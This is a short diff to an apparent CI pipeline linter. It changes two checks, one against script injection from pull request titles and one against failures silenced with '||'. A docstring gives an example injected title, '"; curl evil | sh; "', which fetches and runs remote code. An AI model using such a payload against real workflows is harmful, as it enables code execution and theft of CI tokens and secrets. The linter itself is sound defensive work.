@@ -81,7 +81,7 @@ def scripts_take_no_expressions(context: Context) -> Iterator[Problem]:
     `${{ github.event.pull_request.title }}` is put into the script before a shell reads it: a title of
     `"; curl evil | sh; "` is run, with the workflow's token and secrets. Give it by `env:`, and write `"$TITLE"`.
     """
-    for file, at in context.each("pipeline"):
+    for file, at in context.everywhere("pipeline"):
         if at.more == "expression":
             message = f"{at.text} becomes a part of this script, and another person chooses the value"
             yield Problem("FILE028", message, place(file, at), 'give it by env:, and write "$NAME" in the script')
@@ -95,7 +95,7 @@ def deliveries_may_fail(context: Context) -> Iterator[Problem]:
     to look further. Remove it; what may fail on purpose gets a step of its own that says why.
     """
     known = {path for path, _ in deliveries(context)}  # SERVICE025 names what these ignore
-    for file, at in context.each("pipeline"):
+    for file, at in context.everywhere("pipeline"):
         if at.more == "forgiven" and file not in known:
             yield Problem(
                 "FILE029", f"the failure of {at.text!r} is passed over", place(file, at), "remove what is behind ||"
